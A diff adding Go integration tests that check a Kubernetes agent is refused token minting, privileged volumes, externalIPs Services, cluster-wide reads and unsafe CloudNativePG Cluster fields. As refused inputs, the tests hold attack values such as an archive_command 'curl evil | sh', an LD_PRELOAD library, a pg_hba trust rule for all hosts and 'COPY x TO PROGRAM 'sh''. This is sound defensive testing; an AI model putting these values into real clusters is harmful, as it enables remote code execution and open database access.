@@ -1,15 +1,19 @@
 package integration
 
 import (
+	"context"
 	"testing"
 
 	. "github.com/onsi/gomega"
 	appsv1 "k8s.io/api/apps/v1"
+	authenticationv1 "k8s.io/api/authentication/v1"
 	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/rest"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
@@ -177,7 +181,115 @@ func TestMemberAgentScope(t *testing.T) {
 		refused(agent.Create(ctx, c), "a CloudNativePG Cluster in "+ns, "fleetdb.io/managed-namespace")
 	}
 	g.Expect(agent.Create(ctx, cluster)).To(Succeed(), "a CloudNativePG Cluster in a managed namespace")
+	memberAgentConfinement(t, ctx, admin, agent, impersonated, backup, cluster)
 	g.Expect(agent.Delete(ctx, cluster)).To(Succeed())
+}
+
+// memberAgentConfinement (issue 42, item 3): acting as the hub's identity, a
+// Job as another ServiceAccount or with a token, nfs and csi volumes, a
+// Service with externalIPs, a ServiceAccount token Secret or TokenRequest, a
+// CloudNativePG Cluster with a field fleetdb never renders, and reads of
+// ConfigMaps and Jobs outside the managed namespaces it bound are refused;
+// cluster is the Cluster fleetdb rendered, created in team-a.
+func memberAgentConfinement(t *testing.T, ctx context.Context, admin, agent client.Client, cfg *rest.Config, backup *batchv1.Job, cluster client.Object) {
+	g := NewWithT(t)
+	refused := func(err error, what, text string) {
+		t.Helper()
+		g.Expect(err).To(HaveOccurred(), "%s was allowed", what)
+		g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want Forbidden, got %v", what, err)
+		g.Expect(err.Error()).To(ContainSubstring(text), what)
+	}
+
+	// Jobs: the namespace's default ServiceAccount, no token, fleetdb's volume kinds.
+	for what, change := range map[string]func(*corev1.PodSpec){
+		"another ServiceAccount":          func(p *corev1.PodSpec) { p.ServiceAccountName = "namespace-admin" },
+		"a ServiceAccount token":          func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = ptrTo(true) },
+		"no automountServiceAccountToken": func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = nil },
+		"an nfs volume": func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, corev1.Volume{Name: "nfs", VolumeSource: corev1.VolumeSource{NFS: &corev1.NFSVolumeSource{Server: "10.0.0.1", Path: "/"}}})
+		},
+		"a csi volume": func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, corev1.Volume{Name: "csi", VolumeSource: corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: "secrets-store.csi.k8s.io"}}})
+		},
+		"a secret volume": func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, corev1.Volume{Name: "s", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "other"}}})
+		},
+	} {
+		job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "confined"}, Spec: *backup.Spec.DeepCopy()}
+		job.Spec.Selector, job.Spec.Template.Labels = nil, nil
+		change(&job.Spec.Template.Spec)
+		refused(agent.Create(ctx, job), "a Job with "+what, "default ServiceAccount")
+	}
+
+	// Services: no externalIPs (CVE-2020-8554), ClusterIP only.
+	svc := func(change func(*corev1.ServiceSpec)) *corev1.Service {
+		s := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "intercept"},
+			Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Name: "p", Port: 443}}}}
+		change(&s.Spec)
+		return s
+	}
+	refused(agent.Create(ctx, svc(func(s *corev1.ServiceSpec) { s.ExternalIPs = []string{"203.0.113.7"} })), "a Service with externalIPs", "externalIPs")
+	refused(agent.Create(ctx, svc(func(s *corev1.ServiceSpec) { s.Type = corev1.ServiceTypeNodePort })), "a NodePort Service", "ClusterIP")
+	g.Expect(agent.Create(ctx, svc(func(*corev1.ServiceSpec) {}), client.DryRunAll)).To(Succeed(), "a ClusterIP Service")
+
+	// No ServiceAccount tokens: a token Secret, a TokenRequest.
+	refused(agent.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "minted",
+		Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}}, Type: corev1.SecretTypeServiceAccountToken}),
+		"a ServiceAccount token Secret", "token Secrets")
+	cs, err := kubernetes.NewForConfig(cfg)
+	g.Expect(err).NotTo(HaveOccurred())
+	_, err = cs.CoreV1().ServiceAccounts("team-a").CreateToken(ctx, "default", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+	refused(err, "a TokenRequest", "serviceaccounts/token")
+
+	// Reads: ConfigMaps and Jobs only in the namespaces where the hub bound its role.
+	g.Expect(admin.Create(ctx, configMap("kube-system", "cluster-settings"))).To(Succeed())
+	refused(agent.Get(ctx, client.ObjectKey{Namespace: "kube-system", Name: "cluster-settings"}, &corev1.ConfigMap{}),
+		"reading a ConfigMap in kube-system", "configmaps")
+	refused(agent.List(ctx, &corev1.ConfigMapList{}), "listing ConfigMaps cluster-wide", "configmaps")
+	refused(agent.List(ctx, &batchv1.JobList{}), "listing Jobs cluster-wide", "jobs")
+	refused(agent.List(ctx, &batchv1.JobList{}, client.InNamespace("kube-system")), "listing Jobs in kube-system", "jobs")
+	g.Expect(agent.List(ctx, &corev1.ConfigMapList{}, client.InNamespace("team-a"))).To(Succeed(), "ConfigMaps in a bound managed namespace")
+	g.Expect(agent.List(ctx, &batchv1.JobList{}, client.InNamespace("team-a"))).To(Succeed(), "Jobs in a bound managed namespace")
+
+	// CloudNativePG Clusters: what fleetdb renders and nothing else.
+	base := cluster.DeepCopyObject().(*unstructured.Unstructured)
+	base.SetResourceVersion("")
+	base.SetName("shaped")
+	for what, field := range map[string]struct {
+		value any
+		path  []string
+	}{
+		"env":                             {[]any{map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so"}}, []string{"spec", "env"}},
+		"envFrom":                         {[]any{map[string]any{"secretRef": map[string]any{"name": "other"}}}, []string{"spec", "envFrom"}},
+		"projectedVolumeTemplate":         {map[string]any{"sources": []any{map[string]any{"secret": map[string]any{"name": "other"}}}}, []string{"spec", "projectedVolumeTemplate"}},
+		"serviceAccountTemplate":          {map[string]any{"metadata": map[string]any{"annotations": map[string]any{"iam": "admin"}}}, []string{"spec", "serviceAccountTemplate"}},
+		"superuser access":                {true, []string{"spec", "enableSuperuserAccess"}},
+		"archive_command":                 {"curl evil | sh", []string{"spec", "postgresql", "parameters", "archive_command"}},
+		"shared_preload_libraries":        {"/var/lib/postgresql/data/x.so", []string{"spec", "postgresql", "parameters", "shared_preload_libraries"}},
+		"pg_hba":                          {[]any{"host all all 0.0.0.0/0 trust"}, []string{"spec", "postgresql", "pg_hba"}},
+		"postInitSQL":                     {[]any{"COPY x TO PROGRAM 'sh'"}, []string{"spec", "bootstrap", "initdb", "postInitSQL"}},
+		"plugins with parameters":         {[]any{map[string]any{"name": "barman-cloud.cloudnative-pg.io", "parameters": map[string]any{"barmanObjectName": "elsewhere"}}}, []string{"spec", "plugins"}},
+		"monitoring queries":              {[]any{map[string]any{"name": "q", "key": "queries"}}, []string{"spec", "monitoring", "customQueriesSecret"}},
+		"an external cluster as postgres": {[]any{map[string]any{"name": "x", "connectionParameters": map[string]any{"host": "db.example", "user": "postgres", "sslmode": "disable"}}}, []string{"spec", "externalClusters"}},
+		"a volume claim template":         {map[string]any{"dataSource": map[string]any{"kind": "PersistentVolumeClaim", "name": "other-db"}}, []string{"spec", "storage", "pvcTemplate"}},
+	} {
+		c := base.DeepCopy()
+		g.Expect(unstructured.SetNestedField(c.Object, field.value, field.path...)).To(Succeed())
+		g.Eventually(func() error { return agent.Create(ctx, c.DeepCopy(), client.DryRunAll) }).WithTimeout(eventually).WithPolling(poll).
+			Should(MatchError(ContainSubstring("fleetdb-hub-agent-cnpg")), "a CloudNativePG Cluster with %s", what)
+		refused(agent.Create(ctx, c), "a CloudNativePG Cluster with "+what, "only as fleetdb renders them")
+	}
+	// An update keeps what an administrator added, and cannot change it.
+	var cur unstructured.Unstructured
+	cur.SetGroupVersionKind(cluster.GetObjectKind().GroupVersionKind())
+	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cluster), &cur)).To(Succeed())
+	g.Expect(unstructured.SetNestedField(cur.Object, []any{map[string]any{"name": "TZ", "value": "UTC"}}, "spec", "env")).To(Succeed())
+	g.Expect(admin.Update(ctx, &cur)).To(Succeed(), "an administrator's env")
+	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cluster), &cur)).To(Succeed())
+	g.Expect(unstructured.SetNestedField(cur.Object, int64(2), "spec", "instances")).To(Succeed())
+	g.Expect(agent.Update(ctx, &cur)).To(Succeed(), "an update that keeps the administrator's env")
+	g.Expect(unstructured.SetNestedField(cur.Object, []any{map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so"}}, "spec", "env")).To(Succeed())
+	refused(agent.Update(ctx, &cur), "changing a Cluster's env", "only as fleetdb renders them")
 }
 
 // privileged makes c privileged (the API refuses privileged with
